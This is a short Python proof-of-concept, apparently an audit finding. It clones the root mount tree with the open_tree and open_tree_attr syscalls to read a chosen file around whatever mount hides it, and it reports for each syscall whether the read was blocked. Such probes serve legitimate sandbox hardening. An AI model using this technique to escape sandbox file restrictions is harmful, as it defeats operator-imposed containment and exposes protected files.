# Finding 1: clone a mount tree (open_tree, and open_tree_attr, newer than any deny-list) and read
# a file through the clone, around whatever covers it. Input: JSON {"file": path}.
import ctypes
import json
import os
import sys

target = json.load(sys.stdin)["file"]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
AT_FDCWD, OPEN_TREE_CLONE, AT_RECURSIVE = -100, 1, 0x8000
for name, number in (("open_tree", 428), ("open_tree_attr", 467)):
    tree = libc.syscall(number, AT_FDCWD, b"/", OPEN_TREE_CLONE | AT_RECURSIVE, None, 0)
    if tree < 0:
        print("BLOCKED", name, os.strerror(ctypes.get_errno()), flush=True)
        continue
    try:
        fd = os.open(target.lstrip("/"), os.O_RDONLY, dir_fd=tree)
        print("OK", name, os.read(fd, 16), flush=True)
        os.close(fd)
    except OSError as exc:
        print("BLOCKED", name, "read:", exc.strerror, flush=True)
